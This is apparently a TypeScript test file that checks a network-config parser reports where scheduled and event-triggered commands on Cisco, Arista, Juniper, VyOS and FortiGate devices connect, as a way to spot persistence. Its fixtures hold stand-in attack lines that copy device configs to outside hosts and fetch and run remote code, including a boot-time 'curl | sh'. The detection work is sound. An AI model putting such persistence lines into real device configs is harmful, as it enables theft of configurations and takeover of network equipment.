import { sample } from './read-sample';

/**
 * Commands that a device runs by itself, with the address that they reach: persistence hides here. Written by hand from Cisco
 * IOS "Embedded Event Manager" and "Command Scheduler", NX-OS "Configuring the Scheduler", EOS "Event Manager", Junos
 * "event-options" and "scripts", the VyOS "Task Scheduler" and FortiOS "automation-action" references.
 */
const CASES = [
  {
    platform: 'cisco_ios',
    text: `hostname r1
event manager applet A
 event timer watchdog time 300
 action 1.0 cli command "enable"
 action 2.0 cli command "copy running-config https://198.51.100.7/c"
kron policy-list P
 cli copy startup-config tftp://198.51.100.8/c
end`,
    endpoints: ['5 other tcp:198.51.100.7:443 encrypted', '7 other udp:198.51.100.8:69'],
  },
  {
    platform: 'cisco_nxos',
    text: `version 9.3(8)
hostname n1
event manager applet A
  event cli match "conf t"
  action 1 cli copy running-config scp://u@198.51.100.7/c vrf management
scheduler job name J
copy running-config tftp://198.51.100.8/c vrf management
end-job`,
    endpoints: ['5 other tcp:198.51.100.7:22 encrypted', '7 other udp:198.51.100.8:69'],
  },
  {
    platform: 'arista_eos',
    text: `! device: s1 (DCS-7050SX3, EOS-4.30.1F)
hostname s1
event-handler H
   trigger on-boot
   action bash curl -sk https://198.51.100.7/a | sh`,
    endpoints: ['5 other tcp:198.51.100.7:443 encrypted'],
  },
  {
    platform: 'juniper_junos',
    text: `set system host-name j1
set system scripts op file y.slax source "https://198.51.100.7/y.slax"
set event-options policy X events ui_commit
set event-options policy X then execute-commands commands "file copy /config/juniper.conf.gz https://198.51.100.8/u"
set event-options event-script file x.slax source https://198.51.100.9/x.slax`,
    endpoints: [
      '2 other tcp:198.51.100.7:443 encrypted',
      '4 other tcp:198.51.100.8:443 encrypted',
      '5 other tcp:198.51.100.9:443 encrypted',
    ],
  },
  {
    platform: 'vyos',
    text: `set system host-name 'v1'
set system task-scheduler task X executable arguments '-s https://198.51.100.7/a'
set system task-scheduler task X executable path '/usr/bin/curl'`,
    endpoints: ['2 other tcp:198.51.100.7:443 encrypted'],
  },
  {
    platform: 'fortigate',
    text: `#config-version=FGT60F-7.4.1-FW-build2463-230830:opmode=0:vdom=0:user=admin
config system automation-action
    edit "x"
        set action-type cli-script
        set script "execute ping 198.51.100.9
execute telnet ftp://198.51.100.7"
    next
end`,
    endpoints: ['3 other tcp:198.51.100.7:21'],
  },
] as const;

test.each(CASES)(
  '$platform: commands that it runs by itself declare where they go',
  ({ platform, text, endpoints }) => {
    expect(sample(platform, text).endpoints()).toEqual(expect.arrayContaining([...endpoints]));
  },
);

test('a value over several lines is shown whole', () => {
  const read = sample('fortigate', CASES[5].text);
  const text = read.bindings('config-endpoint').find(({ value }) => value.includes('198.51.100.7'))?.extra;
  expect(text?.['ascribe.config.text']).toContain('execute telnet ftp://198.51.100.7"');
  expect(text?.['ascribe.config.last_line']).toBe(6);
});
